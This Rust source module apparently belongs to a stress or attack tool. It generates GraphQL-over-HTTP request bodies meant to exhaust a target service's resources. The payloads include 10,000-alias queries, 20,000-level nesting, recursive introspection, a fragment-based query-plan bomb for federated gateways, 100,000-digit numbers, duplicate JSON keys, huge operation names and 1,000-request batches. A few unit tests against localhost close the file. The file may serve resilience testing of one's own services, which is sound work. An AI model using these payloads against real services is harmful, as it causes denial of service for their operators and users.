//! Bodies of GraphQL over HTTP that cost their sender little.

use std::borrow::Cow;

use serde_json::json;

use super::attacks::{Attack, Victim};

/// How a service is asked, as far as attacks differ by it.
#[derive(Clone, Debug)]
pub(super) struct Dialect {
    /// A field of the root with its arguments.
    pub(super) root: &'static str,
    /// The type of what it gives.
    pub(super) kind: &'static str,
    /// A field of that type.
    pub(super) leaf: &'static str,
    /// An operation with variables, and their JSON without the braces.
    pub(super) with_variables: (&'static str, &'static str),
    /// Whether it plans over a supergraph.
    pub(super) is_federated: bool,
}

impl Dialect {
    /// A request with a large answer.
    pub(super) fn large(&self) -> String {
        self.wide(500)
    }

    fn wide(&self, count: usize) -> String {
        let leaf = self.leaf;
        let fields: String = (0..count).map(|it| format!("b{it}:{leaf} ")).collect();
        query(&format!("{{{}{{{fields}}}}}", self.root))
    }

    fn aliases(&self, count: usize) -> String {
        let (root, leaf) = (self.root, self.leaf);
        let fields: String = (0..count)
            .map(|it| format!("a{it}:{root}{{{leaf}}}"))
            .collect();
        query(&format!("{{{fields}}}"))
    }

    fn plan_bomb(&self) -> String {
        let (root, leaf) = (self.root, self.leaf);
        let roots: String = (0..30).map(|it| format!("a{it}:{root}{{...F}}")).collect();
        let fields: String = (0..600).map(|it| format!("b{it}:{leaf} ")).collect();
        query(&format!(
            "{{{roots}}}fragment F on {}{{{fields}}}",
            self.kind
        ))
    }
}

fn query(text: &str) -> String {
    json!({ "query": text }).to_string()
}

/// The bodies of an attack, by their number.
pub(super) struct Bodies<'a>(Kind<'a>);

enum Kind<'a> {
    Same(Cow<'a, str>),
    /// In turn.
    Some(Vec<String>),
    /// A new one each time.
    Distinct(Box<dyn Fn(usize) -> String + Sync + 'a>),
}

impl Bodies<'_> {
    pub(super) fn body(&self, number: usize) -> Cow<'_, str> {
        match &self.0 {
            Kind::Same(text) => Cow::Borrowed(text),
            Kind::Some(texts) => Cow::Borrowed(&texts[number % texts.len()]),
            Kind::Distinct(make) => Cow::Owned(make(number)),
        }
    }
}

/// What an attack sends.
pub(super) fn bodies<'a>(attack: Attack, victim: &Victim<'a>) -> Bodies<'a> {
    let Some(dialect) = victim.dialect else {
        return Bodies(Kind::Same(victim.body.into()));
    };
    let (root, leaf) = (dialect.root, dialect.leaf);
    let same = |text: String| Kind::Same(text.into());
    Bodies(match attack {
        Attack::Aliases => same(dialect.aliases(10_000)),
        Attack::Depth => same(query(&("{a".repeat(20_000) + &"}".repeat(20_000)))),
        Attack::Width => same(dialect.wide(3_000)),
        Attack::Introspection => {
            let levels = 12;
            let open = "fields{type{".repeat(levels);
            let close = "}}".repeat(levels);
            same(query(&format!(
                "{{__schema{{types{{{open}name{close}}}}}}}"
            )))
        }
        Attack::PlanBomb => same(dialect.plan_bomb()),
        Attack::Entities => same(query(&linked(8))),
        Attack::BigNumbers => Kind::Some(big_numbers(dialect)),
        Attack::DuplicateKeys => Kind::Some(duplicate_keys(dialect)),
        Attack::Operations => Kind::Distinct(Box::new(move |number| {
            query(&format!("query q{number}{{a{number}:{root}{{{leaf}}}}}"))
        })),
        Attack::OperationNames => Kind::Distinct(Box::new(move |number| {
            // The text stays the same, so that only the name is new.
            let name = format!("n{number}{}", "x".repeat(500_000));
            json!({"query": format!("{{{root}{{{leaf}}}}}"), "operationName": name}).to_string()
        })),
        Attack::Batch => same(format!("[{}]", vec![victim.body; 1_000].join(","))),
        _ => Kind::Same(victim.body.into()),
    })
}

/// A link from each entity to ten of the other subgraph, and back.
fn linked(levels: usize) -> String {
    let open: String = (0..levels).map(|level| ["bs{", "as{"][level % 2]).collect();
    format!("{{a{{{open}id{}}}}}", "}".repeat(levels))
}

fn big_numbers(dialect: &Dialect) -> Vec<String> {
    let digits = "9".repeat(100_000);
    let (operation, variables) = dialect.with_variables;
    let operation = json!(operation);
    let (root, leaf) = (dialect.root, dialect.leaf);
    vec![
        format!(r#"{{"query":{operation},"variables":{{{variables},"more":{digits}}}}}"#),
        format!(
            r#"{{"query":{operation},"variables":{{{variables}}},"extensions":{{"n":1e{digits}}}}}"#
        ),
        query(&format!("{{{root}{{{leaf} @skip(if:{digits})}}}}")),
        query(&format!("{{{root}{{{leaf} @skip(if:1e{digits})}}}}")),
    ]
}

fn duplicate_keys(dialect: &Dialect) -> Vec<String> {
    let (operation, variables) = dialect.with_variables;
    let operation = json!(operation);
    let many = vec![variables; 10_000].join(",");
    vec![
        format!(r#"{{"query":{operation},"query":{operation},"variables":{{{variables}}}}}"#),
        format!(r#"{{"query":{operation},"variables":{{{variables},{variables}}}}}"#),
        format!(r#"{{"query":{operation},"variables":{{{many}}}}}"#),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_go_back_and_forth() {
        assert_eq!(linked(3), "{a{bs{as{bs{id}}}}}");
    }

    #[test]
    fn bodies_are_new_where_that_is_the_attack() {
        let dialect = Dialect {
            root: "test",
            kind: "Test",
            leaf: "id",
            with_variables: ("query($n:Int){test{id}}", r#""n":1"#),
            is_federated: false,
        };
        let victim = Victim {
            address: ([127, 0, 0, 1], 1).into(),
            path: "/",
            body: "{}",
            dialect: Some(&dialect),
        };
        let of = |attack, number| bodies(attack, &victim).body(number).into_owned();
        assert_eq!(of(Attack::Load, 7), "{}");
        assert_eq!(
            of(Attack::Operations, 7),
            r#"{"query":"query q7{a7:test{id}}"}"#
        );
        assert_ne!(of(Attack::OperationNames, 1), of(Attack::OperationNames, 2));
        assert_eq!(of(Attack::Aliases, 1), of(Attack::Aliases, 2));
        assert_eq!(of(Attack::Batch, 0).matches("{}").count(), 1_000);
    }
}
